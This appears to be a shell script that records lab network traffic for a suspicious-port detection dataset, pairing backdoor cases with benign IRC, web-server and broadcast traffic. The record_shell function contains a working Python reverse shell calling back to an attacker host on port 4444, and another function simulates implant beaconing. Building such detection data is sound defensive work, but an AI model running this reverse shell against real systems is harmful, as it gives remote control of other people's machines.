#!/bin/sh
# Recordings of backdoors on their usual ports, and of honest use of the same ports.

# Waits until the victim's port $1 is open.
await() {
    tries=0
    until victim nc -z 127.0.0.1 "$1" || [ "$tries" -ge 50 ]; do
        tries=$((tries + 1)) && sleep 0.1
    done
}

# suspicious_port-shell: attack suspicious_port a shell that calls back to a listener on port 4444
record_shell() {
    { sleep 2; echo id; sleep 1; echo 'uname -a'; sleep 1; } |
        attacker timeout 8 nc -l -p 4444 > /dev/null & listener=$!
    sleep 1
    victim timeout 6 python3 -c '
import os, socket, subprocess, sys
s = socket.create_connection((sys.argv[1], 4444))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
subprocess.call(["/bin/sh", "-i"])' "$ATTACKER" || true
    wait "$listener" || true
}

# suspicious_port-insistence: attack suspicious_port an implant that goes on calling a listener that is gone
record_insistence() {
    for _ in $(seq 10); do
        victim nc -z -w 1 "$ATTACKER" 4444 || true
        sleep 3
    done
}

# suspicious_port-irc: benign suspicious_port a client and a server that speak IRC at 6667
record_irc() {
    printf ':irc.lab NOTICE * :*** Looking up\r\n:irc.lab 001 joe :Welcome\r\n' |
        victim timeout 6 nc -l -p 6667 > /dev/null & listener=$!
    sleep 1
    printf 'NICK joe\r\nUSER joe 0 * :Joe\r\n' | attacker timeout 3 nc "$VICTIM" 6667 || true
    wait "$listener" || true
}

# suspicious_port-web: benign suspicious_port a development server at 5555 inside the site
record_web() {
    victim timeout 10 python3 -m http.server 5555 > /dev/null 2>&1 & server=$!
    await 5555
    for _ in $(seq 5); do attacker curl -s -m 3 "http://$VICTIM:5555/" > /dev/null || true; done
    kill "$server" 2> /dev/null || true
}

# suspicious_port-broadcast: benign suspicious_port a home device that announces itself to all at 6667
record_broadcast() {
    attacker python3 -c '
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for _ in range(30):
    s.sendto(b"\0\0\x55\xaa{\"ip\":\"10.77.0.2\"}", ("10.77.0.255", 6667)); time.sleep(0.2)'
}
